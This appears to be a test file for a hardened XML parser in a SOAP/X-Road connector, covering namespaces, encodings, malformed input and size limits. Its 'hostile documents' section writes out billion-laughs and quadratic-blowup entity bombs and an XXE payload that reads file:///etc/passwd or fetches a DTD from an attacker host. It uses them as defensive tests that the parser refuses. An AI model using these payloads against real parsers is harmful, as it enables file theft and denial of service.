import assert from 'node:assert/strict';
import { CORPUS } from '../../corpus';
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import providerSchema from '../../../contracts/provider.schema.json';
import { UnsafeResponse } from '../../../connectors/errors';
import {
  DEFAULT_XML_LIMITS,
  XML_NS,
  attrOf,
  childElements,
  findChild,
  findChildren,
  namespacesInScope,
  parseXml,
  resolveQName,
  textOf,
  type XmlElement,
  type XmlLimits,
} from '../../../connectors/xml/parse';

const EXAMPLES = join(CORPUS, 'xroad-example-adapter', 'examples');
const SOAP11 = 'http://schemas.xmlsoap.org/soap/envelope/';
const XROAD = 'http://x-road.eu/xsd/xroad.xsd';
const IDEN = 'http://x-road.eu/xsd/identifiers';
const PROD = 'http://test.x-road.global/producer';

function refused(xml: string | Buffer, limit: UnsafeResponse['limit'], limits?: Partial<XmlLimits>): UnsafeResponse {
  let err: unknown;
  try {
    parseXml(xml, limits);
  } catch (e) {
    err = e;
  }
  assert.ok(err instanceof UnsafeResponse, `expected UnsafeResponse(${limit}), got ${String(err)}`);
  assert.equal(err.limit, limit, err.message);
  assert.equal(err.transient, false);
  return err;
}

/** Parses and measures time and heap growth (after a GC when exposed). */
function bounded(fn: () => void): { ms: number; heapMb: number } {
  (globalThis as { gc?: () => void }).gc?.();
  const heap = process.memoryUsage().heapUsed;
  const started = performance.now();
  fn();
  return { ms: performance.now() - started, heapMb: (process.memoryUsage().heapUsed - heap) / 2 ** 20 };
}

describe('connectors/xml/parse', () => {
  describe('the corpus envelopes', () => {
    const files = readdirSync(EXAMPLES).filter((f) => f.endsWith('.xml') || f.endsWith('.txt'));

    for (const f of files) {
      it(`parses ${f} into a SOAP 1.1 envelope`, () => {
        let text = readFileSync(join(EXAMPLES, f), 'utf8');
        // The .txt files are whole HTTP messages with a MIME multipart body: take the envelope part.
        if (f.endsWith('.txt')) text = /<([\w-]+:)?Envelope[\s\S]*<\/([\w-]+:)?Envelope>/.exec(text)![0];
        const env = parseXml(Buffer.from(text, 'utf8'));
        assert.equal(env.ns, SOAP11);
        assert.equal(env.local, 'Envelope');
        assert.deepEqual(childElements(env).map((e) => e.local), ['Header', 'Body']);
        const header = findChild(env, SOAP11, 'Header')!;
        assert.ok(findChild(header, XROAD, 'client'), 'X-Road client header');
        assert.equal(attrOf(findChild(header, XROAD, 'client')!, IDEN, 'objectType'), 'SUBSYSTEM');
      });
    }

    it('reads listPeopleResponse exactly: prefixes, attributes, repeated elements, empty elements', () => {
      const env = parseXml(readFileSync(join(EXAMPLES, 'listPeopleResponse.xml')));
      const header = findChild(env, SOAP11, 'Header')!;
      assert.equal(textOf(findChild(header, XROAD, 'protocolVersion')!), '4.0');
      assert.deepEqual(findChild(header, XROAD, 'issue')!.children, []);
      const hash = findChild(header, XROAD, 'requestHash')!;
      assert.deepEqual(hash.attrs, [{ ns: '', local: 'algorithmId', prefix: '', value: 'http://www.w3.org/2001/04/xmlenc#sha512' }]);
      const service = findChild(header, XROAD, 'service')!;
      assert.deepEqual(service.attrs, [{ ns: IDEN, local: 'objectType', prefix: 'iden', value: 'SERVICE' }]);
      assert.equal(textOf(findChild(service, IDEN, 'serviceCode')!), 'listPeople');
      const people = findChild(findChild(findChild(env, SOAP11, 'Body')!, PROD, 'listPeopleResponse')!, PROD, 'people')!;
      const persons = findChildren(people, PROD, 'person');
      assert.equal(persons.length, 6);
      assert.deepEqual(
        persons.map((p) => [textOf(findChild(p, PROD, 'ssn')!), textOf(findChild(p, PROD, 'firstName')!)]),
        [['1230', 'John'], ['1231', 'Jack'], ['1232', 'Mary'], ['1233', 'Maria'], ['1234', 'Luke'], ['1235', 'Michelle']],
      );
      // Indentation between elements is dropped: only elements remain.
      assert.ok(people.children.every((c) => typeof c !== 'string'));
    });
  });

  describe('text and Arabic', () => {
    const arabic = 'ريم خالد الأحمد، دمشق — المزة ١٢٣ ﷲ 𝕏 👍';

    it('round-trips Arabic text and attributes byte for byte, from a Buffer and from a string', () => {
      const xml = `<?xml version="1.0" encoding="UTF-8"?><شخص xmlns="urn:ar" اسم="${arabic}"><الاسم>${arabic}</الاسم></شخص>`;
      for (const input of [Buffer.from(xml, 'utf8'), xml]) {
        const el = parseXml(input);
        assert.equal(el.local, 'شخص');
        assert.equal(el.attrs[0]!.local, 'اسم');
        assert.deepEqual(Buffer.from(el.attrs[0]!.value, 'utf8'), Buffer.from(arabic, 'utf8'));
        const name = findChild(el, 'urn:ar', 'الاسم')!;
        assert.deepEqual(Buffer.from(textOf(name), 'utf8'), Buffer.from(arabic, 'utf8'));
      }
    });

    it('decodes the five predefined entities and character references, CDATA as text', () => {
      const el = parseXml('<a t="&lt;&gt;&amp;&quot;&apos;&#65;&#x0644;&#x1F44D;">&lt;b&gt; &amp; &#1585;&#x64A;&#x645;<![CDATA[<not a tag> & ]]>!</a>');
      assert.equal(el.attrs[0]!.value, `<>&"'Aل👍`);
      assert.deepEqual(el.children, ['<b> & ريم<not a tag> & !']);
    });

    it('skips comments and processing instructions, accepts the XML declaration and a BOM', () => {
      const xml = '\uFEFF<?xml version="1.0" encoding="utf-8" standalone="yes"?>\n<!-- before --><?style x?><a><!-- in -->x<?pi y?>y</a><!-- after -->\n';
      assert.deepEqual(parseXml(xml).children, ['xy']);
      assert.deepEqual(parseXml(Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(xml.slice(1))])).children, ['xy']);
    });

    it('normalises line ends in text and whitespace in attribute values, as XML requires', () => {
      const el = parseXml('<a v="x\ty\r\nz" w="&#9;&#10;&#13;">1\r\n2\r3</a>');
      assert.equal(attrOf(el, '', 'v'), 'x y z');
      assert.equal(attrOf(el, '', 'w'), '\t\n\r', 'character references are kept');
      assert.equal(textOf(el), '1\n2\n3');
    });

    it('drops whitespace-only text beside elements, keeps it in a text-only element and in mixed content', () => {
      const el = parseXml('<a>\n  <b>  </b>\n  <c> x <d/> y </c>\n</a>');
      assert.deepEqual(el.children.map((c) => (typeof c === 'string' ? 'text' : c.local)), ['b', 'c']);
      assert.deepEqual(findChild(el, '', 'b')!.children, ['  ']);
      assert.deepEqual(findChild(el, '', 'c')!.children.map((c) => (typeof c === 'string' ? c : c.local)), [' x ', 'd', ' y ']);
    });

    it('decodes ISO-8859-1 and windows-1256 documents exactly, refuses UTF-16 and unknown encodings', () => {
      const latin = Buffer.concat([Buffer.from('<?xml version="1.0" encoding="ISO-8859-1"?><a>'), Buffer.from([0xe9, 0xe8]), Buffer.from('</a>')]);
      assert.equal(textOf(parseXml(latin)), 'éè');
      // "سلام" in windows-1256: س=0xD3 ل=0xE1 ا=0xC7 م=0xE3
      const cp1256 = Buffer.concat([Buffer.from('<?xml version="1.0" encoding="windows-1256"?><a>'), Buffer.from([0xd3, 0xe1, 0xc7, 0xe3]), Buffer.from('</a>')]);
      assert.equal(textOf(parseXml(cp1256)), 'سلام');
      refused(Buffer.from('\uFEFF<a/>', 'utf16le'), 'malformed');
      refused(Buffer.from('<?xml version="1.0" encoding="x-klingon"?><a/>'), 'malformed');
      refused(Buffer.concat([Buffer.from('<a>'), Buffer.from([0xc3, 0x28]), Buffer.from('</a>')]), 'malformed');
    });
  });

  describe('namespaces', () => {
    it('resolves default namespaces, prefixes and their scope, and the built-in xml prefix', () => {
      const el = parseXml(
        '<r xmlns="urn:d" xmlns:p="urn:p1"><p:a p:x="1" y="2" xml:lang="ar"><b xmlns="urn:d2"><c xmlns=""/></b><p:d xmlns:p="urn:p2"/></p:a><e/></r>',
      );
      assert.deepEqual([el.ns, el.prefix], ['urn:d', '']);
      const a = findChild(el, 'urn:p1', 'a')!;
      assert.deepEqual(a.attrs, [
        { ns: 'urn:p1', local: 'x', prefix: 'p', value: '1' },
        { ns: '', local: 'y', prefix: '', value: '2' },
        { ns: XML_NS, local: 'lang', prefix: 'xml', value: 'ar' },
      ]);
      const b = findChild(a, 'urn:d2', 'b')!;
      assert.ok(findChild(b, '', 'c'), 'xmlns="" undeclares the default namespace');
      assert.ok(findChild(a, 'urn:p2', 'd'), 'an inner declaration shadows the outer one');
      assert.ok(findChild(el, 'urn:d', 'e'), 'and its scope ends with its element');
      assert.equal(namespacesInScope(el, findChild(a, 'urn:p2', 'd')!)!['p'], 'urn:p2');
      assert.equal(namespacesInScope(el, findChild(el, 'urn:d', 'e')!)!['p'], 'urn:p1');
    });

    it('resolves QName values as seen at an element (xsi:type, fault codes)', () => {
      const env = parseXml('<s:Envelope xmlns:s="urn:s"><s:Body><s:Fault xmlns:m="urn:moi"><faultcode>m:PersonNotFound</faultcode></s:Fault></s:Body></s:Envelope>');
      const code = findChild(findChild(findChild(env, 'urn:s', 'Body')!, 'urn:s', 'Fault')!, '', 'faultcode')!;
      assert.deepEqual(resolveQName(env, code, textOf(code)), { ns: 'urn:moi', local: 'PersonNotFound' });
      assert.equal(resolveQName(env, code, 'zz:x'), undefined);
      // The declarations are hidden: an element still compares as its five fields.
      assert.deepEqual(Object.keys(env), ['ns', 'local', 'prefix', 'attrs', 'children']);
      assert.equal(JSON.stringify(env).includes('urn:moi'), false);
    });

    it('refuses an undeclared prefix, on an element or an attribute', () => {
      refused('<p:a/>', 'malformed');
      refused('<a p:x="1"/>', 'malformed');
      refused('<a><p:b xmlns:p="urn:p"/><p:c/></a>', 'malformed');
    });

    it('refuses what the namespaces recommendation forbids', () => {
      refused('<a xmlns:p=""/>', 'malformed');
      refused('<a xmlns:xml="urn:other"/>', 'malformed');
      refused('<a xmlns:xmlns="urn:x"/>', 'malformed');
      refused('<a xmlns:p="http://www.w3.org/XML/1998/namespace"/>', 'malformed');
      refused('<a xmlns:p="urn:1" xmlns:p="urn:2"/>', 'malformed');
      refused('<a:b:c xmlns:a="urn:a"/>', 'malformed');
      refused('<a xmlns:p="urn:x" xmlns:q="urn:x" p:v="1" q:v="2"/>', 'malformed');
    });
  });

  describe('malformed documents', () => {
    const cases: Array<[string, string]> = [
      ['mismatched tags', '<a><b></a></b>'],
      ['an end tag that is a prefix of the start tag', '<abc></ab>'],
      ['an unclosed element', '<a><b></b>'],
      ['an unclosed start tag', '<a'],
      ['a stray end tag', '</a>'],
      ['garbage after the root', '<a/>junk'],
      ['a second root', '<a/><b/>'],
      ['text before the root', 'x<a/>'],
      ['no root', '<!-- only a comment -->'],
      ['an empty document', ''],
      ['an unquoted attribute', '<a x=1/>'],
      ['an attribute without value', '<a x/>'],
      ['attributes without whitespace between', '<a x="1"y="2"/>'],
      ['a duplicate attribute', '<a x="1" x="2"/>'],
      ['< in an attribute value', '<a x="<"/>'],
      ['an unclosed attribute value', '<a x="1/>'],
      ['a bare &', '<a>fish & chips</a>'],
      ['"]]>" in text', '<a>x ]]> y</a>'],
      ['a bad character reference', '<a>&#xZZ;</a>'],
      ['a reference to NUL', '<a>&#0;</a>'],
      ['a reference to a surrogate', '<a>&#xD800;</a>'],
      ['a reference beyond Unicode', '<a>&#x110000;</a>'],
      ['a control character', '<a>\u0001</a>'],
      ['a bad name', '<1a/>'],
      ['an XML declaration not at the start', '<a/><?xml version="1.0"?>'],
      ['a bad XML declaration', '<?xml version="2" ?><a/>'],
      ['"--" in a comment', '<a><!-- a -- b --></a>'],
      ['an unclosed comment', '<a><!-- </a>'],
      ['an unclosed CDATA section', '<a><![CDATA[ </a>'],
      ['CDATA outside the root', '<![CDATA[x]]><a/>'],
      ['unknown markup', '<a><!FOO></a>'],
    ];
    for (const [name, xml] of cases) it(`refuses ${name}`, () => void refused(xml, 'malformed'));

    it('names the rule and an offset, never the content', () => {
      const err = refused('<person><nationalNumber>01020304050</nationalNumber><name>ريم</nam></person>', 'malformed');
      assert.match(err.message, /mismatched end tag at offset \d+/);
      assert.doesNotMatch(err.message, /01020304050|ريم|nam/);
    });
  });

  describe('hostile documents', () => {
    it('refuses a billion-laughs document at its DOCTYPE, in bounded time and memory', () => {
      const lol = [
        '<?xml version="1.0"?>',
        '<!DOCTYPE lolz [',
        ' <!ENTITY lol "lol">',
        ...Array.from({ length: 9 }, (_, k) => ` <!ENTITY lol${k + 1} "${`&lol${k === 0 ? '' : k};`.repeat(10)}">`),
        ']>',
        '<lolz>&lol9;</lolz>',
      ].join('\n');
      const m = bounded(() => void refused(lol, 'dtd'));
      assert.ok(m.ms < 1000 && m.heapMb < 100, JSON.stringify(m));
    });

    it('refuses an XXE attempt (external entity to file:///etc/passwd) without reading anything', () => {
      const err = refused('<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>', 'dtd');
      assert.doesNotMatch(err.message, /passwd|root:/);
      refused('<!DOCTYPE foo SYSTEM "http://attacker.test/evil.dtd"><foo/>', 'dtd');
      refused('<a><!ENTITY x "y"></a>', 'dtd');
    });

    it('refuses entity references without a DTD', () => {
      refused('<a>&xxe;</a>', 'entity');
      refused('<a x="&lol9;"/>', 'entity');
      refused('<a>&nbsp;</a>', 'entity');
    });

    it('refuses a 50 MB response by its size before reading it, as a Buffer or a string', () => {
      const big = Buffer.alloc(50 * 2 ** 20, 0x61);
      big.write('<a>');
      const m = bounded(() => void refused(big, 'size'));
      assert.ok(m.ms < 1000 && m.heapMb < 100, JSON.stringify(m));
      const s = `<a>${'x'.repeat(50 * 2 ** 20)}</a>`;
      const n = bounded(() => void refused(s, 'size'));
      assert.ok(n.ms < 1000 && n.heapMb < 100, JSON.stringify(n));
      // A string of multi-byte characters is measured in UTF-8 bytes.
      refused(`<a>${'ب'.repeat(600)}</a>`, 'size', { maxBytes: 1024 });
      assert.ok(parseXml(`<a>${'ب'.repeat(500)}</a>`, { maxBytes: 1024 }));
    });

    it('refuses a 10,000-deep nesting at maxDepth, in bounded time and memory', () => {
      const deep = '<a>'.repeat(10_000) + '</a>'.repeat(10_000);
      const m = bounded(() => void refused(deep, 'depth'));
      assert.ok(m.ms < 1000 && m.heapMb < 100, JSON.stringify(m));
      // The parser itself is iterative: allowed that deep, it parses without exhausting the stack.
      const el = parseXml(deep, { maxDepth: 20_000 });
      let d = 1;
      for (let e: XmlElement | undefined = el; (e = childElements(e)[0]); ) d++;
      assert.equal(d, 10_000);
    });

    it('refuses more elements (and attributes) than maxElements', () => {
      refused(`<a>${'<b/>'.repeat(101)}</a>`, 'elements', { maxElements: 100 });
      refused(`<a ${Array.from({ length: 101 }, (_, k) => `x${k}="1"`).join(' ')}/>`, 'elements', { maxElements: 100 });
      assert.equal(childElements(parseXml(`<a>${'<b/>'.repeat(99)}</a>`, { maxElements: 100 })).length, 99);
    });

    it('stays linear on a tag with 100,000 attributes or namespace declarations', () => {
      const attrs = `<a ${Array.from({ length: 100_000 }, (_, k) => `x${k}="1"`).join(' ')} x5="dup"/>`;
      const m = bounded(() => void refused(attrs, 'malformed', { maxElements: 1_000_000 }));
      assert.ok(m.ms < 1000, JSON.stringify(m));
      const decls = `<a ${Array.from({ length: 100_000 }, (_, k) => `xmlns:p${k}="urn:${k}"`).join(' ')}><p99999:b/></a>`;
      const n = bounded(() => assert.equal(parseXml(decls).children.length, 1));
      assert.ok(n.ms < 1000, JSON.stringify(n));
    });

    it('refuses a "quadratic blowup" of one long entity used many times: no entity is ever defined', () => {
      const xml = `<!DOCTYPE a [<!ENTITY x "${'x'.repeat(100_000)}">]><a>${'&x;'.repeat(10_000)}</a>`;
      const m = bounded(() => void refused(xml, 'dtd'));
      assert.ok(m.ms < 1000, JSON.stringify(m));
    });
  });

  describe('limits', () => {
    it('defaults to provider.schema.json XmlLimits', () => {
      const p = providerSchema.$defs.XmlLimits.properties;
      assert.deepEqual(DEFAULT_XML_LIMITS, { maxBytes: p.maxBytes.default, maxDepth: p.maxDepth.default, maxElements: p.maxElements.default });
    });

    it('takes each limit from the caller, the others from the defaults', () => {
      refused('<a><b><c/></b></a>', 'depth', { maxDepth: 2 });
      assert.ok(parseXml('<a><b><c/></b></a>', { maxDepth: 3 }));
      assert.ok(parseXml('<a><b><c/></b></a>', { maxDepth: undefined }));
      refused('<a>xxxxxxxxxx</a>', 'size', { maxBytes: 10 });
    });
  });

  describe('helpers', () => {
    it('textOf gives the direct text, childElements and findChild skip text', () => {
      const el = parseXml('<a>x<b>inner</b>y</a>');
      assert.equal(textOf(el), 'xy');
      assert.deepEqual(childElements(el).map((e) => e.local), ['b']);
      assert.equal(findChild(el, '', 'c'), undefined);
      assert.equal(textOf(parseXml('<a/>')), '');
    });
  });
});
